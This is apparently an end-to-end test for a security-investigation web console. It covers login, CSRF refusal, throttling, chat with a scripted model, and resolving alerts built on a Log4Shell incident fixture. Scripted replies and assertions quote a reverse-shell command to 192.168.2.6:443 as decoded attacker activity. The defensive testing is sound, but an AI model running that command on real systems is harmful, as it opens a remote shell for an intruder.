import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { languageModelFromSpec } from 'kioku';
import type { DrizzleStore } from 'kioku/store/drizzle';
import {
  headlessChromium,
  type LoopbackProvider,
  type LoopbackReply,
  startLoopbackProvider,
} from 'kioku/test';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSignInThrottle, ensureAdminToken } from '../auth/index.js';
import { logsRunRegistration } from '../chat/logs-run-registration.js';
import { createIntelFeeds, createThreatIntel } from '../intel/index.js';
import { buildLog4ShellDatabase } from '../logs/__fixtures__/log4shell-database.js';
import { defaultRunbooksDir } from '../logs/index.js';
import { createConsoleServer, recordRecalls } from '../server/console/index.js';
import { type RunningServer, startServer } from '../server/index.js';
import { openInvestigatorStore } from '../store/index.js';

// The web console end to end: the real server (webhook + console API + the built app) on loopback, the
// chat on a scripted model behind kioku/test's loopback OpenAI server, driven in Debian's Chromium.

const chromiumPath = headlessChromium.path;
const chromiumArgs = [...headlessChromium.args];
const webhookToken = 'a-webhook-token-of-32-characters';
const webBuilt = existsSync(new URL('../../dist/web/index.html', import.meta.url));
const missing = !existsSync(chromiumPath)
  ? `no Chromium at ${chromiumPath} (apt-get install chromium, or set KIOKU_CHROMIUM)`
  : !webBuilt
    ? 'the web console is not built: run npm run build -w investigator'
    : undefined;
if (missing !== undefined && process.env.CI === 'true')
  throw new Error(`required in CI (CI=true): ${missing}`);

const decodeSql =
  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from ubuntu5_sysmon where SyslogMessage like '%{echo,%'";
const padding = ' Evidence row: java → bash → base64 -d → bash -i on UBUNTU5 at 2022-05-11T18:10:22Z.'.repeat(
  40,
);
const learned =
  'ubuntu5_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
const firstAnswer =
  'The JVM started a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1, as the tomcat user.';
const replies: LoopbackReply[] = [
  // turn 1: the chat asks logs_run; the sub-agent runs SQL, answers, introspects; the chat answers.
  {
    toolCalls: [
      { id: 'c1', name: 'logs_run', arguments: { query: 'What did the java process start on UBUNTU5?' } },
    ],
  },
  { toolCalls: [{ id: 'q1', name: 'query', arguments: { sql: decodeSql } }] },
  { text: 'java started bash -c {echo,…}; decoded: bash -i >& /dev/tcp/192.168.2.6/443 0>&1' },
  { text: JSON.stringify({ claims: [learned], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
  { text: firstAnswer + padding },
  // turn 2: the history is over the threshold of the small window: kioku summarizes, then the answer.
  { text: '## Findings\nA reverse shell to 192.168.2.6:443 was opened from the Tomcat JVM on UBUNTU5.' },
  { text: 'Isolate UBUNTU5 and block 192.168.2.6.' },
  // turn 3, on the LSASS alert, with plan & execute: the plan, its one step (a tool call, the step's
  // answer), the reflection that concludes, the answer.
  {
    text: JSON.stringify({
      steps: [{ id: 's1', goal: 'Find earlier LSASS alerts on MKT01', tools: ['search_alerts'] }],
    }),
  },
  { toolCalls: [{ id: 'a1', name: 'search_alerts', arguments: { text: 'LSASS' } }] },
  { text: 'One LSASS alert so far, this one, on MKT01.' },
  { text: JSON.stringify({ action: 'conclude', add: [], update: [], cancel: [], reason: 'answered' }) },
  { text: 'No earlier LSASS read on MKT01: this is the first [s1].' },
];

/** Width and height of a PNG, from its IHDR chunk. */
function pngSize(png: Buffer): { width: number; height: number } {
  expect(png.subarray(1, 4).toString('ascii')).toBe('PNG');
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
}

describe.skipIf(missing !== undefined)('the web console end to end (Chromium, loopback model)', () => {
  let store: DrizzleStore;
  let adminToken: string;
  let database: Awaited<ReturnType<typeof buildLog4ShellDatabase>>;
  let provider: LoopbackProvider;
  let server: RunningServer;
  let context: BrowserContext;
  let page: Page;
  // The sign-in throttle's clock: the test moves it past the window instead of waiting.
  let clock = 0;
  const profile = mkdtempSync(join(tmpdir(), 'investigator-console-'));
  const alertIds: string[] = [];
  const pageErrors: string[] = [];

  const webhook = (alert: object) =>
    fetch(`${server.url}/hooks/alert/syslog`, {
      method: 'POST',
      headers: { authorization: `Bearer ${webhookToken}`, 'content-type': 'application/json' },
      body: JSON.stringify(alert),
    });

  beforeAll(async () => {
    store = await openInvestigatorStore({ location: 'memory://' });
    const token = await ensureAdminToken(store);
    if (token === undefined) throw new Error('a new store has no admin token yet');
    adminToken = token;
    database = await buildLog4ShellDatabase();
    provider = await startLoopbackProvider({ replies });
    const { model } = await languageModelFromSpec('openai-compatible:loopback', {
      baseUrl: provider.baseUrl,
    });
    if (typeof model === 'string') throw new Error('expected a model object');
    const app = createConsoleServer({
      store,
      token: webhookToken,
      chatModel: model,
      tools: () => [
        logsRunRegistration({
          model,
          file: database.file,
          runbooksDir: defaultRunbooksDir(),
          store,
          onRecall: recordRecalls(store),
        }),
      ],
      intel: createThreatIntel({ feeds: createIntelFeeds(store) }),
      contextWindow: 3000,
      signInThrottle: createSignInThrottle({
        perClient: { failures: 2, windowMs: 60_000 },
        now: () => clock,
      }),
      settings: {
        model: 'openai-compatible:loopback',
        logEngine: `duckdb: ${database.file}`,
        threatIntel: [{ name: 'AlienVault OTX', keyPresent: false }],
        embedder: 'kioku-hashing (384 dimensions)',
      },
    });
    server = await startServer({ app, port: 0 });
    context = await chromium.launchPersistentContext(join(profile, 'chromium'), {
      executablePath: chromiumPath,
      args: chromiumArgs,
      viewport: { width: 1400, height: 1000 },
    });
    page = await context.newPage();
    page.on('pageerror', (error) => pageErrors.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error') pageErrors.push(message.text());
    });
  }, 300_000);

  afterAll(async () => {
    await context?.close();
    await server?.close();
    await provider?.close();
    await store?.close();
    await database?.remove();
    rmSync(profile, { recursive: true, force: true });
  });

  it('refuses API routes without a login, a wrong token, and cross-site state changes', async () => {
    const alerts = await fetch(`${server.url}/api/alerts`);
    expect(alerts.status).toBe(401);
    const webhookTokenIsNotALogin = await fetch(`${server.url}/api/alerts`, {
      headers: { authorization: `Bearer ${webhookToken}` },
    });
    expect(webhookTokenIsNotALogin.status).toBe(401);
    const login = (token: string, headers: Record<string, string> = { 'x-investigator-console': '1' }) =>
      fetch(`${server.url}/api/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ token }),
      });
    expect((await login('not-the-token')).status).toBe(401);
    const ok = await login(adminToken);
    expect(ok.status).toBe(200);
    const cookie = ok.headers.get('set-cookie') ?? '';
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Strict/i);
    const session = cookie.split(';')[0] ?? '';
    const listed = await fetch(`${server.url}/api/alerts`, { headers: { cookie: session } });
    expect(listed.status).toBe(200);
    // A cross-site POST (another origin, as a form or fetch from another site sends it) is refused.
    const resolveBody = JSON.stringify({ ids: ['x'], conclusion: 'benign', reason: 'cross-site' });
    const crossSite = await fetch(`${server.url}/api/alerts/resolve`, {
      method: 'POST',
      headers: {
        cookie: session,
        origin: 'https://evil.example',
        'content-type': 'application/json',
        'x-investigator-console': '1',
      },
      body: resolveBody,
    });
    expect(crossSite.status).toBe(403);
    const noHeader = await fetch(`${server.url}/api/alerts/resolve`, {
      method: 'POST',
      headers: { cookie: session, 'content-type': 'text/plain' },
      body: resolveBody,
    });
    expect(noHeader.status).toBe(403);
    expect((await login(adminToken, {})).status).toBe(403);
    // The pages carry no secret: the settings say whether a key is present, never the key.
    const settings = await (
      await fetch(`${server.url}/api/settings`, { headers: { cookie: session } })
    ).text();
    expect(settings).toContain('"keyPresent":false');
    expect(settings).not.toContain(webhookToken);
    expect(settings).not.toContain(adminToken);
  });

  it('signs in past the throttle, ingests by webhook, lists with keyboard navigation, chats with streaming and sub-agent progress, compacts, plans & executes, resolves', async () => {
    for (const alert of [
      {
        AlertName: 'Java process spawned a shell',
        severity: 'critical',
        Computer: 'UBUNTU5',
        ParentImage: '/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java',
        Image: '/usr/bin/bash',
        DestinationIp: '192.168.2.6',
      },
      {
        AlertName: 'LSASS memory read',
        severity: 'high',
        Computer: 'MKT01',
        Image: 'C:\\Windows\\Temp\\dump.exe',
      },
    ]) {
      const response = await webhook(alert);
      expect(response.status).toBe(201);
      alertIds.push(((await response.json()) as { id: string }).id);
    }

    // Sign in: after two wrong tokens from this address the console refuses even the right one, saying
    // when to try again; once the window has passed, the token signs in.
    await page.goto(server.url);
    await page.getByRole('button', { name: 'Sign in with the admin token' }).click();
    for (const wrong of ['not-the-token', 'still-not-the-token']) {
      await page.getByLabel('Admin token').fill(wrong);
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page.getByRole('alert').getByText('that is not the admin token').waitFor();
      await page
        .getByRole('alert')
        .waitFor({ state: 'detached' })
        .catch(() => undefined);
    }
    await page.getByLabel('Admin token').fill(adminToken);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page
      .getByRole('alert')
      .getByText('too many failed sign-ins from this address; try again in 60 s')
      .waitFor();
    clock += 60_000;
    await page.getByLabel('Admin token').fill(adminToken);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    const table = page.getByRole('table', { name: 'Alerts' });
    await table.getByText('LSASS memory read').waitFor();
    await table.getByText('Java process spawned a shell').waitFor();
    const listShot = await page.screenshot({ fullPage: true });
    expect(pngSize(listShot)).toMatchObject({ width: 1400 });
    expect(listShot.length).toBeGreaterThan(10_000);
    for (const label of ['Status', 'Severity', 'Time', 'Search']) {
      await expect(page.getByLabel(label, { exact: true }).count()).resolves.toBe(1);
    }

    // Filters: the severity filter keeps the critical alert only.
    await page.getByLabel('Severity', { exact: true }).selectOption('critical');
    await table.getByText('LSASS memory read').waitFor({ state: 'detached' });
    await page.getByLabel('Severity', { exact: true }).selectOption('');
    await table.getByText('LSASS memory read').waitFor();

    // Keyboard: Tab reaches the list, ↓ moves, Space selects, Enter opens.
    const rows = table.locator('tbody tr');
    await rows.first().focus();
    const firstId = await rows.nth(0).getAttribute('data-alert-id');
    await page.keyboard.press('ArrowDown');
    const focusedId = await page.locator(':focus').getAttribute('data-alert-id');
    expect(focusedId).toBe(await rows.nth(1).getAttribute('data-alert-id'));
    expect(focusedId).not.toBe(firstId);
    await page.keyboard.press(' ');
    await expect(rows.nth(1).getAttribute('aria-selected')).resolves.toBe('true');
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('Space');
    await expect(rows.nth(0).getAttribute('aria-selected')).resolves.toBe('true');
    await page.keyboard.press('Space');
    const javaRow = rows.filter({ hasText: 'Java process spawned a shell' });
    await javaRow.focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Java process spawned a shell' }).waitFor();
    expect(page.url()).toContain(`#/alerts/${alertIds[0]}`);
    await page.getByRole('table', { name: 'Indicators of compromise' }).getByText('192.168.2.6').waitFor();

    // Turn 1: the answer streams (an AI SDK UI message stream), with the tool call and the log
    // sub-agent's steps as they happen.
    const streamed = page.waitForResponse((response) => response.url().endsWith('/chat'));
    await page.getByLabel('Ask about this alert').fill('What did the attacker run on UBUNTU5?');
    await page.getByRole('button', { name: 'Send' }).click();
    const response = await streamed;
    expect(response.headers()['content-type']).toContain('text/event-stream');
    const body = await response.text();
    expect(body.match(/"type":"text-delta"/g)?.length ?? 0).toBeGreaterThan(1);
    const chat = page.getByRole('region', { name: 'Investigation' });
    await chat
      .getByText('bash -i >& /dev/tcp/192.168.2.6/443 0>&1, as the tomcat user', { exact: false })
      .waitFor();
    await expect(chat.getByTestId('tool-call').first().textContent()).resolves.toMatch(/logs_run .* done/);
    const progress = await chat.getByTestId('progress').allTextContents();
    expect(progress.some((line) => /logs_run started/.test(line))).toBe(true);
    expect(progress.some((line) => /logs_run · query .*\(\d+ ms\)/.test(line))).toBe(true);
    expect(progress.some((line) => /logs_run done after \d+ step/.test(line))).toBe(true);
    const contextPanel = page.getByRole('complementary', { name: 'Context' });
    await contextPanel.getByText(/After turn 1:/).waitFor();
    await expect(contextPanel.getByTestId('compaction').count()).resolves.toBe(0);

    // Turn 2: the small window fills; kioku summarizes and the compaction appears in the context panel,
    // with a link to the original messages.
    await page.getByLabel('Ask about this alert').fill('What should we do?');
    await page.getByRole('button', { name: 'Send' }).click();
    await chat.getByText('Isolate UBUNTU5 and block 192.168.2.6.').waitFor();
    await chat.getByText(/history compacted \(threshold\)/).waitFor();
    await contextPanel.getByText(/After turn 2:/).waitFor();
    const compaction = contextPanel.getByTestId('compaction');
    await expect(compaction.count()).resolves.toBe(1);
    await expect(compaction.textContent()).resolves.toMatch(
      /(Shortened old tool outputs and s|S)ummarized messages \d+–\d+: [\d,]+ → [\d,]+ tokens \(\d+% smaller\)/,
    );
    await compaction.getByRole('button', { name: 'Show the original' }).click();
    await contextPanel
      .getByRole('region', { name: 'Original messages' })
      .getByText('as the tomcat user', { exact: false })
      .waitFor();
    const alertShot = await page.screenshot({ fullPage: true });
    expect(pngSize(alertShot).width).toBe(1400);
    expect(alertShot.length).toBeGreaterThan(listShot.length / 2);

    // Only the analyst resolves, here in the console.
    await page.getByLabel('Conclusion').selectOption('true_positive');
    await page.getByLabel('Reason').fill('Log4Shell reverse shell to 192.168.2.6:443');
    await page.getByRole('button', { name: 'Resolve', exact: true }).click();
    await expect(page.getByTestId('resolution').textContent()).resolves.toBeDefined();
    await page
      .getByTestId('resolution')
      .getByText(/true positive by admin/)
      .waitFor();
    expect(await page.getByTestId('alert-status').textContent()).toBe('resolved');

    // Plan & execute on the LSASS alert: the plan and its steps are shown as they happen, then the answer.
    await page.goto(`${server.url}/#/alerts/${alertIds[1]}`);
    await page.getByRole('heading', { name: 'LSASS memory read' }).waitFor();
    await page.getByLabel('Plan & execute').check();
    await page.getByLabel('Ask about this alert').fill('Has LSASS been read on MKT01 before?');
    await page.getByRole('button', { name: 'Send' }).click();
    await chat.getByText('No earlier LSASS read on MKT01: this is the first [s1].').waitFor();
    const planLines = await chat.getByTestId('progress').allTextContents();
    expect(planLines).toContain('plan: [s1] Find earlier LSASS alerts on MKT01');
    expect(planLines).toContain('plan step [s1] Find earlier LSASS alerts on MKT01');

    // Bulk resolve from the list: select the other alert with the keyboard, resolve it as the analyst.
    await page.getByRole('link', { name: 'Alerts', exact: true }).click();
    const open = page.getByRole('table', { name: 'Alerts' });
    await open.getByText('Java process spawned a shell').waitFor({ state: 'detached' });
    await open.locator('tbody tr').first().focus();
    await page.keyboard.press('Space');
    await page.getByRole('group', { name: 'Resolve 1 selected' }).waitFor();
    await page.getByLabel('Conclusion').selectOption('benign');
    await page.getByLabel('Reason').fill('credential audit by IT');
    await page.getByRole('button', { name: 'Resolve selected' }).click();
    await page.getByText('No alert matches.').waitFor();
    await page.getByLabel('Status', { exact: true }).selectOption('resolved');
    await open.getByText('resolved: benign').waitFor();
    await open.getByText('resolved: true_positive').waitFor();

    // What the log sub-agent learned shows on the memory page with its score; the analyst deletes it.
    await page.getByRole('link', { name: 'Memory', exact: true }).click();
    const claims = page.getByRole('table', { name: 'Claims of logs_run' });
    await claims.getByText(learned).waitFor();
    await expect(claims.locator('tbody tr').first().textContent()).resolves.toContain('not recalled yet');
    await claims.getByRole('button', { name: /Delete claim/ }).click();
    await page.getByText('Nothing learned yet.').waitFor();
    await page.getByRole('link', { name: 'Settings', exact: true }).click();
    await expect(page.getByTestId('intel-AlienVault OTX').textContent()).resolves.toBe('no key');
    await expect(page.getByTestId('embedder').textContent()).resolves.toBe('kioku-hashing (384 dimensions)');
    expect(pageErrors.filter((error) => !/status of (401|404|429)/.test(error))).toEqual([]);
  }, 300_000);
});
